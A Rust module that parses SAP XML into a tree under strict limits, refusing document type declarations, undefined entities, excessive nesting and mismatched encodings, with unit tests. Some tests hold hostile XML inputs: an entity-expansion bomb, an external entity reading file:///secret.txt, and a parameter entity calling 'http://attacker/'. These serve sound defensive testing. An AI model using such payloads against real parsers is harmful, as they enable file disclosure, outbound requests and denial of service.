//! XML as a tree, read by events within limits: no document types, no entities but the five, no
//! deep nesting. Attributes are left out; SAP puts no data into them.

use std::borrow::Cow;

use quick_xml::NsReader;
use quick_xml::events::{BytesRef, BytesStart, Event};
use quick_xml::name::ResolveResult;

/// Deepest nesting.
pub(super) const DEPTH_MAX: usize = 64;
/// Most attributes of one element.
pub(super) const ATTRIBUTES_MAX: usize = 256;

/// An element.
#[derive(Clone, Debug, Default, PartialEq)]
pub(super) struct Element {
    /// Its namespace, if it is one of those that were asked for.
    pub namespace: Option<&'static str>,
    pub name: String,
    pub text: String,
    pub children: Vec<Element>,
}

impl Element {
    pub fn leaf(name: &str, text: &str) -> Self {
        Self { name: name.to_owned(), text: text.to_owned(), ..Self::default() }
    }

    pub fn of(name: &str, children: Vec<Self>) -> Self {
        Self { name: name.to_owned(), children, ..Self::default() }
    }

    pub fn child(&self, name: &str) -> Option<&Self> {
        self.children.iter().find(|child| child.name == name)
    }
}

/// The root of a document. Elements in one of `namespaces` remember it. An error says the line.
pub(super) fn parse(body: &[u8], namespaces: &[&'static str]) -> Result<Element, String> {
    let text = decoded(body)?;
    let mut reader = NsReader::from_str(text.trim_start_matches('\u{feff}'));
    let mut builder = Builder::default();
    loop {
        let at = reader.buffer_position();
        let step = match reader.read_resolved_event() {
            Ok((_, Event::Eof)) => break,
            Ok((resolved, event)) => {
                let namespace = match resolved {
                    ResolveResult::Bound(bound) => {
                        namespaces.iter().copied().find(|known| bound.as_ref() == *known)
                    }
                    _ => None,
                };
                builder.take(event, namespace)
            }
            Err(error) => Err(format!("XML-TRUNC: {error}")),
        };
        step.map_err(|reason| format!("{reason} (line {})", line(&text, at)))?;
    }
    if let Some(open) = builder.stack.last() {
        let last = line(&text, text.len() as u64);
        return Err(format!("XML-TRUNC: document ends inside <{}> (line {last})", open.name));
    }
    builder.root.ok_or_else(|| "XML-TRUNC: there is no element".to_owned())
}

/// The line, from 1, of a place in a text.
fn line(text: &str, at: u64) -> usize {
    let before = text.as_bytes().iter().take(usize::try_from(at).unwrap_or(usize::MAX));
    before.filter(|byte| **byte == b'\n').count() + 1
}

/// The tree as far as it has come.
#[derive(Default)]
struct Builder {
    stack: Vec<Element>,
    root: Option<Element>,
}

impl Builder {
    fn take(&mut self, event: Event<'_>, namespace: Option<&'static str>) -> Result<(), String> {
        match event {
            Event::Start(start) => {
                if self.stack.is_empty() && self.root.is_some() {
                    return Err("XML-ROOT: there is more than one root element".to_owned());
                }
                self.stack.push(opened(&start, namespace, self.stack.len())?);
            }
            Event::Empty(start) => {
                let element = opened(&start, namespace, self.stack.len())?;
                close(element, &mut self.stack, &mut self.root);
            }
            Event::End(_) => {
                let ended = self.stack.pop();
                let element = ended.ok_or("XML-TRUNC: an element ends that never began")?;
                close(element, &mut self.stack, &mut self.root);
            }
            Event::Text(text) => self.write(&text),
            Event::CData(data) => self.write(&data),
            Event::GeneralRef(reference) => {
                let character = entity(&reference)?;
                self.write(character.encode_utf8(&mut [0; 4]));
            }
            Event::DocType(_) => {
                return Err("XML-DOCTYPE: document type declarations are not allowed".to_owned());
            }
            Event::Eof | Event::Decl(_) | Event::PI(_) | Event::Comment(_) => {}
        }
        Ok(())
    }

    fn write(&mut self, text: &str) {
        if let Some(open) = self.stack.last_mut() {
            open.text.push_str(text);
        }
    }
}

/// The namespace of the root, whatever it is; empty if it has none or cannot be read.
pub(super) fn root_namespace(body: &[u8]) -> String {
    let Ok(text) = decoded(body) else { return String::new() };
    let mut reader = NsReader::from_str(text.trim_start_matches('\u{feff}'));
    loop {
        match reader.read_resolved_event() {
            Ok((ResolveResult::Bound(bound), Event::Start(_) | Event::Empty(_))) => {
                return bound.as_ref().to_owned();
            }
            Ok((_, Event::Start(_) | Event::Empty(_) | Event::Eof)) | Err(_) => {
                return String::new();
            }
            Ok(_) => {}
        }
    }
}

/// The text of a document in the encoding that it declares: UTF-8, or ISO-8859-1 of older kernels.
pub(super) fn decoded(body: &[u8]) -> Result<Cow<'_, str>, String> {
    let utf_8 = || {
        let text = std::str::from_utf8(body).map_err(|error| {
            let before = body[..error.valid_up_to()].iter();
            let line = before.filter(|byte| **byte == b'\n').count() + 1;
            format!("XML-ENCODING: it is not UTF-8 (line {line})")
        });
        text.map(Cow::Borrowed)
    };
    let Some(declared) = declared_encoding(body) else { return utf_8() };
    match declared.to_ascii_lowercase().as_str() {
        "utf-8" | "utf8" | "us-ascii" => utf_8(),
        // Latin 1 is the first 256 characters of Unicode.
        "iso-8859-1" | "latin1" => Ok(body.iter().copied().map(char::from).collect()),
        _ => Err(format!("XML-ENCODING: declared encoding {declared} does not match the bytes")),
    }
}

/// What `encoding="..."` of the XML declaration says.
fn declared_encoding(body: &[u8]) -> Option<String> {
    let head: String = body.iter().take(200).copied().map(char::from).collect();
    let declaration = head.get(head.find("<?xml")?..head.find("?>")?)?;
    let value = declaration.split("encoding").nth(1)?.trim_start().strip_prefix('=')?.trim_start();
    let quote = value.chars().next().filter(|quote| matches!(quote, '"' | '\''))?;
    value[1..].split(quote).next().map(str::to_owned)
}

fn opened(
    start: &BytesStart<'_>,
    namespace: Option<&'static str>,
    depth: usize,
) -> Result<Element, String> {
    if depth >= DEPTH_MAX {
        return Err(format!("XML-LIMIT: nesting deeper than {DEPTH_MAX}"));
    }
    if start.attributes().take(ATTRIBUTES_MAX + 1).count() > ATTRIBUTES_MAX {
        return Err(format!("XML-LIMIT: more than {ATTRIBUTES_MAX} attributes"));
    }
    let name = start.local_name().as_ref().to_owned();
    Ok(Element { namespace, name, ..Element::default() })
}

fn close(mut element: Element, stack: &mut [Element], root: &mut Option<Element>) {
    if element.children.is_empty() {
        // Trailing blanks are not significant in SAP.
        element.text.truncate(element.text.trim_end().len());
    } else {
        element.text.clear();
    }
    match stack.last_mut() {
        Some(parent) => parent.children.push(element),
        None => *root = Some(element),
    }
}

/// The character of `&lt;`, `&#65;` and the like.
pub(super) fn entity(reference: &BytesRef<'_>) -> Result<char, String> {
    if let Some(character) = reference.resolve_char_ref().map_err(|_| NO_CHARACTER.to_owned())? {
        return if is_legal(character) { Ok(character) } else { Err(NO_CHARACTER.to_owned()) };
    }
    match reference.as_ref() {
        "lt" => Ok('<'),
        "gt" => Ok('>'),
        "amp" => Ok('&'),
        "quot" => Ok('"'),
        "apos" => Ok('\''),
        other => Err(format!("XML-ENTITY: entity {other} is not defined")),
    }
}

const NO_CHARACTER: &str = "XML-CHAR: character reference not allowed in XML";

/// Whether XML 1.0 allows a character.
pub(super) fn is_legal(character: char) -> bool {
    matches!(character, '\t' | '\n' | '\r')
        || (character >= ' ' && !matches!(character, '\u{fffe}' | '\u{ffff}'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn refusal(xml: &str) -> String {
        parse(xml.as_bytes(), &[]).unwrap_err()
    }

    #[test]
    fn xml_01_entities_that_multiply_are_never_expanded() {
        let laughs = "<!DOCTYPE x [\n<!ENTITY a \"ha\">\n<!ENTITY b \"&a;&a;\">]>\n<x>&b;</x>";

        let error = refusal(laughs);

        assert_eq!(error, "XML-DOCTYPE: document type declarations are not allowed (line 1)");
    }

    #[test]
    fn xml_02_no_file_is_read() {
        let error =
            refusal("<?xml version='1.0'?>\n<!DOCTYPE x SYSTEM \"file:///secret.txt\"><x/>");

        assert!(error.starts_with("XML-DOCTYPE") && !error.contains("secret"), "{error}");
    }

    #[test]
    fn xml_03_no_address_is_called() {
        let declared = "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://attacker/\">%p;]><x/>";

        assert!(refusal(declared).starts_with("XML-DOCTYPE"));
    }

    #[test]
    fn xml_04_only_the_five_entities_exist() {
        assert_eq!(
            refusal("<a>\n<b>\n&foo;</b></a>"),
            "XML-ENTITY: entity foo is not defined (line 3)"
        );
        let fine = parse(b"<a>&lt;&#65;&#x42;&amp;&gt;&quot;&apos;</a>", &[]).unwrap();
        assert_eq!(fine.text, "<AB&>\"'");
    }

    #[test]
    fn xml_05_characters_that_xml_forbids_are_refused() {
        for reference in ["&#x0;", "&#xFFFE;", "&#x1F;", "&#xD800;", "&#x110000;"] {
            let error = refusal(&format!("<a>\n{reference}</a>"));

            assert!(
                error.starts_with("XML-CHAR: ") && error.ends_with("(line 2)"),
                "{reference}: {error}"
            );
        }
    }

    #[test]
    fn xml_06_a_document_that_breaks_off_is_refused() {
        assert_eq!(refusal("<a>\n<b>1</b>\n"), "XML-TRUNC: document ends inside <a> (line 3)");
        assert!(refusal("").starts_with("XML-TRUNC"));
        assert!(refusal("<a><b>1</").starts_with("XML-TRUNC"));
        assert!(refusal("<a/><b></b>").starts_with("XML-ROOT"));
    }

    #[test]
    fn xml_07_an_element_has_at_most_256_attributes() {
        let attributes =
            |count: usize| -> String { (0..count).map(|n| format!(" a{n}=\"1\"")).collect() };

        let error = refusal(&format!("<x>\n<y{}/></x>", attributes(100_000)));

        assert_eq!(error, "XML-LIMIT: more than 256 attributes (line 2)");
        assert!(parse(format!("<x{}/>", attributes(256)).as_bytes(), &[]).is_ok());
    }

    #[test]
    fn xml_08_elements_nest_at_most_64_deep() {
        let nested = |depth: usize| "<a>".repeat(depth) + &"</a>".repeat(depth);

        assert_eq!(refusal(&nested(100_000)), "XML-LIMIT: nesting deeper than 64 (line 1)");
        assert!(parse(nested(64).as_bytes(), &[]).is_ok());
        assert!(parse(nested(65).as_bytes(), &[]).is_err());
    }

    #[test]
    fn xml_09_the_declared_encoding_must_be_that_of_the_bytes() {
        let utf_16 = refusal("<?xml version=\"1.0\" encoding=\"UTF-16\"?><a/>");

        assert_eq!(utf_16, "XML-ENCODING: declared encoding UTF-16 does not match the bytes");
        let latin_1 = parse(b"<a>\n\xfc</a>", &[]).unwrap_err();
        assert_eq!(latin_1, "XML-ENCODING: it is not UTF-8 (line 2)");
    }

    #[test]
    fn xml_10_latin_1_is_read_if_it_is_declared() {
        let latin_1 = b"<?xml version='1.0' encoding='ISO-8859-1'?><a>Gr\xfc\xdfe</a>";

        assert_eq!(parse(latin_1, &[]).unwrap().text, "Gr\u{fc}\u{df}e");
    }

    #[test]
    fn an_element_knows_its_namespace_whatever_the_prefix() {
        let root = parse(b"<p:a xmlns:p='urn:x'><b xmlns='urn:y'/></p:a>", &["urn:x"]).unwrap();

        assert_eq!((root.namespace, root.children[0].namespace), (Some("urn:x"), None));
    }
}
